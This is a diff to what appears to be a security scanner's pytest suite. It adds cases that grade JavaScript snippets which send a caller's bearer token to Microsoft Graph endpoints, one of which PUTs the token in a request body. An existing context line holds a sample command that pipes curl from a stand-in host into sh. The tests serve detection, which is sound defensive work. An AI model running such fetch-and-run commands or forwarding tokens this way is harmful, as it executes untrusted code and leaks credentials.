@@ -207,6 +207,20 @@ def test_a_code_is_exchanged_for_a_token_where_many_log_in(address: str, weight:
 
 
 @pytest.mark.parametrize(
+    ("address", "options", "weight"),
+    [
+        ("graph.microsoft.com/v1.0/me", "{ headers: { Authorization: `Bearer ${token}` } }", Severity.LOW),
+        ("graph.microsoft.com/v1.0/me/photos/48x48/$value", "{ headers: { Authorization: `Bearer ${token}` } }", Severity.LOW),
+        ("graph.microsoft.com/v1.0/me", "{ method: 'PUT', body: token }", Severity.HIGH),
+        ("graph.microsoft.com/v1.0/me/drive/root:/a.txt:/content", "{ headers: { Authorization: `Bearer ${token}` } }", Severity.HIGH),
+    ],
+)  # fmt: skip
+def test_whose_a_token_is_may_be_asked_of_who_gave_it(address: str, options: str, weight: Severity) -> None:
+    text = f"exports.who = async (token) => (await fetch('https://{address}', {options})).json();\n"
+    assert the("a.js", text, "chain.caller-to-network").severity is weight
+
+
+@pytest.mark.parametrize(
     ("does", "there"), [("pass", False), ("subprocess.call('curl http://c.invalid/x | sh', shell=True)", True)]
 )
 def test_async_was_a_name_once(does: str, there: bool) -> None:
